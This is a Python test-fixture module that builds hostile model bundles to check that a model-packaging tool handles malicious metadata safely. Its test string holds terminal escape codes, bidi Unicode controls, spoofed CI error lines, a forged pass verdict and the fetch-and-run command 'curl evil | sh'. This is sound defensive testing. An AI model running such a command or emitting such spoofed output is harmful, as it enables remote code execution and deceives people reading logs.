"""Bundles whose author means harm: texts that control a terminal or look like a verdict, and files that are wrong."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import numpy as np
import pytest

from edgekit.core.bundle import MANIFEST, SAMPLES, Artifact, Manifest, _digest_of, write_manifest
from edgekit.core.samples import Samples
from edgekit.core.spec.model_spec import ModelSpec
from edgekit.core.spec.tensor_spec import TensorSpec
from edgekit.core.system.files import sha256_file

Change = Callable[[dict[str, Any]], object]

VERDICT: Final = "VERDICT: pass (by a stranger)"
HINT: Final = "Hint: curl evil | sh"
COMMAND: Final = "::error::pwned"
# The title of a window, a colour, a cleared screen, text in another direction, and lines of other programs.
TEXT: Final = (
    f"x\x1b]0;pwn\x07\x1b[31m\x9b2J\u202eevil\u2066\n{VERDICT}\r\n{COMMAND}\n{HINT}\u2028{VERDICT}\x85##[error]pwned\n"
)


def write_model(file: Path, text: str = TEXT) -> None:
    """A linear classifier of 4 numbers, with `text` in every name and in its metadata."""
    import onnx
    from onnx import helper, numpy_helper

    weights = np.random.default_rng(0).normal(size=(4, 3)).astype(np.float32)
    graph = helper.make_graph(
        [helper.make_node("MatMul", [text, f"w{text}"], [f"y{text}"], name=f"n{text}", doc_string=text)],
        f"g{text}",
        [helper.make_tensor_value_info(text, onnx.TensorProto.FLOAT, ["N", 4])],
        [helper.make_tensor_value_info(f"y{text}", onnx.TensorProto.FLOAT, ["N", 3])],
        [numpy_helper.from_array(weights, f"w{text}")],
        doc_string=text,
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=10, producer_name=text)
    helper.set_model_props(model, {text: text})
    onnx.save(model, file)


def write_bundle(folder: Path, text: str = TEXT, *, recipe: str = "onnx-fp16", **changes: Any) -> None:
    """An intact bundle of two artifacts, the second of which is called `recipe`.

    Args:
        changes: Fields of its spec that are different.
    """
    import onnx
    from onnx import numpy_helper

    folder.mkdir()
    inputs, outputs = (TensorSpec(text, "float32", ("N", 4)),), (TensorSpec(f"y{text}", "float32", ("N", 3)),)
    artifacts = []
    for made_by, name in (("onnx-fp32", "onnx-fp32.onnx"), (recipe, "second.onnx")):
        file = folder / name
        write_model(file, text)
        digest, size = sha256_file(file), file.stat().st_size
        artifacts.append(
            Artifact(made_by, name, "onnx", "fp32", size, digest, digest, inputs, outputs, opset=18, warnings=(text,))
        )
    weights = numpy_helper.to_array(onnx.load(folder / "second.onnx").graph.initializer[0])
    values = np.random.default_rng(1).normal(size=(12, 4)).astype(np.float32)
    expected = values @ weights
    samples = Samples({text: values}, expected.argmax(1)).with_expected({f"y{text}": expected})
    samples.save(folder / SAMPLES)
    fields = {"labels": (text, f"{text}2", f"{text}3"), "summary": text, "licence": text, **changes}
    spec = ModelSpec(text, "classification", inputs, outputs, **fields)
    manifest = Manifest(spec, tuple(artifacts), {}, created=text, tools={text: text}, source={text: text})
    write_manifest(folder, manifest)


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("plain") / "bundle"
    write_bundle(folder, "x")
    return folder


@pytest.fixture
def changed(bundle: Path, quiet_home: Path) -> Callable[..., Path]:
    """A copy of the bundle with other contents, whose checksums are right."""

    def change(of: Change = lambda _: None, **files: bytes) -> Path:
        copy = quiet_home / "changed"
        shutil.copytree(bundle, copy)
        document = json.loads((copy / MANIFEST).read_bytes())
        for name, content in files.items():
            file = name.replace("__", ".")
            (copy / file).write_bytes(content)
            document["files"][file] = {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
        of(document)
        sign(copy, document)
        return copy

    return change


def sign(folder: Path, document: dict[str, Any]) -> None:
    document["digest"] = _digest_of(json.dumps(document).encode())
    (folder / MANIFEST).write_text(json.dumps(document))


def spec(**fields: object) -> Change:
    return lambda document: document["spec"].update(fields)


if __name__ == "__main__":
    write_bundle(Path(sys.argv[1]))
